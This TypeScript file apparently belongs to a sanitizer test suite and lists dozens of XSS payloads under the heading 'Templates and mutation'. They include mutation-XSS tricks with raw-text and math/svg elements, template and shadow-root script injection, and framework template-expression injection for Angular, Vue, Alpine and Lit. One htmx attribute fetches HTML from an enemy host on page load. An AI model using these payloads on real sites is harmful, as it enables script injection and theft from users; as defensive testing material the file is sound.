import {ENEMY, type AttackClass} from '../attack.js';
import {html} from './html-sinks.js';

/** What means one thing where it is read first, and another where it is read again; and what templates take for their own. */
export const TEMPLATES_MUTATION: AttackClass = {
  name: 'Templates and mutation',
  attacks: [
    html('A template holds a script', 'element', '<template><script>alert(1)</script></template>'),
    html(
      'A template asks for a shadow tree',
      'element',
      '<template shadowrootmode="open"><img src onerror=alert(1)></template>',
    ),
    html(
      'A template in a template holds a handler',
      'element',
      '<template><template><img src onerror=alert(1)></template></template>',
    ),
    html(
      'A page without scripts is another one, and an attribute there closes it',
      'dialog',
      '<noscript><p title="</noscript><img src onerror=alert(1)>"></noscript>',
    ),
    html(
      'A style element ends within an attribute',
      'dialog',
      '<style><a title="</style><img src onerror=alert(1)>"></style>',
    ),
    html(
      'An old text element ends within an attribute',
      'dialog',
      '<xmp><a title="</xmp><img src onerror=alert(1)>"></xmp>',
    ),
    html(
      'A frame’s old text ends within an attribute',
      'dialog',
      '<noembed><a title="</noembed><img src onerror=alert(1)>"></noembed>',
    ),
    html(
      'The text for pages without frames ends within an attribute',
      'dialog',
      '<noframes><a title="</noframes><img src onerror=alert(1)>"></noframes>',
    ),
    html(
      'A frame’s text ends within an attribute',
      'dialog',
      '<iframe><a title="</iframe><img src onerror=alert(1)>"></iframe>',
    ),
    html(
      'A comment ends within an attribute',
      'dialog',
      '<a title="x"><!-- <a title="--><img src onerror=alert(1)>"> -->',
    ),
    html(
      'A paragraph leaves a drawing, and its style element becomes another one',
      'dialog',
      '<svg></p><style><a title="</style><img src onerror=alert(1)>"></style></svg>',
    ),
    html(
      'A formula moves out of a table, and its style element becomes another one',
      'element',
      '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
    ),
    html(
      'A form in a form loses its tag at a second reading',
      'element',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
    ),
    html(
      'A heading in a heading loses its tag at a second reading',
      'element',
      '<h1><math><mtext><h1><mglyph><style><img src onerror=alert(1)></style></mglyph></h1></mtext></math></h1>',
    ),
    html(
      'A link in a link loses its tag at a second reading',
      'element',
      '<a><svg><desc><a><style><img src onerror=alert(1)></style></a></desc></svg></a>',
    ),
    html(
      'A choice drops tags that come back later',
      'element',
      '<select><template><style><a title="</style><img src onerror=alert(1)>"></style></template></select>',
    ),
    html('A list for text goes on for ever', 'element', '<plaintext><img src onerror=alert(1)>'),
    html(
      'A listing loses its first line break at a second reading',
      'element',
      '<listing>&#10;<img src onerror=alert(1)></listing>',
    ),
    html(
      'An attribute holds what ends a title',
      'dialog',
      '<title><a title="</title><img src onerror=alert(1)>"></title>',
    ),
    html(
      'A backtick ends an attribute where it is written without quotes',
      'dialog',
      '<a title="`x` onclick=alert(1) ">x</a><img alt="``onerror=alert(1)" src onerror=alert(1)>',
    ),
    html(
      'A no-break character stands where a blank would end a name',
      'element',
      '<img\u00a0src\u00a0onerror=alert(1)><script\u00a0>alert(1)</script>',
    ),
    html(
      'An entity becomes a tag when it is read twice',
      'dialog',
      '<iframe srcdoc="&lt;script&gt;top.alert(1)&lt;/script&gt;"></iframe>',
    ),

    html('A template of Angular or Vue holds an expression', 'dialog', `{{constructor.constructor('alert(1)')()}}`),
    html('A template of Angular or Vue calls a function', 'dialog', '{{alert(1)}}'),
    html('A template literal holds an expression', 'dialog', '${alert(1)}'),
    html(
      'An attribute of Vue holds an expression',
      'attribute',
      '<p v-html="constructor.constructor(\'alert(1)\')()">x</p>',
    ),
    html('An attribute of Alpine holds an expression', 'attribute', '<p x-data="alert(1)">x</p>'),
    html('An attribute of htmx fetches HTML', 'attribute', `<p hx-get="${ENEMY}/" hx-trigger="load">x</p>`),
    html(
      'An attribute of Lit’s templates is written as if Lit had made it',
      'attribute',
      '<p onclick$lit$="lit$123456789$alert(1)">x</p>',
    ),
    html(
      'A marker of Lit’s templates stands before a handler',
      'dialog',
      'x <?lit$123456789$><img src onerror=alert(1)>',
    ),
    html(
      'A mark of Lit’s drawing on a server stands before a handler',
      'dialog',
      '<!--lit-part--><img src onerror=alert(1)><!--/lit-part-->',
    ),
    html(
      'A listener of Lit’s templates is written into the text',
      'attribute',
      '<p @click="${alert(1)}" .innerHTML="${1}">x</p>',
    ),
    html(
      'A gap for a value of Lit is left in the text',
      'attribute',
      '<!--?lit$1$--><p lit-node="0" onclick=alert(1)>x</p>',
    ),
    html(
      'What a replacement takes for the words before and after it stands in the text',
      'dialog',
      "$& $` $' $1 <img src onerror=alert(1)>",
    ),
  ],
};
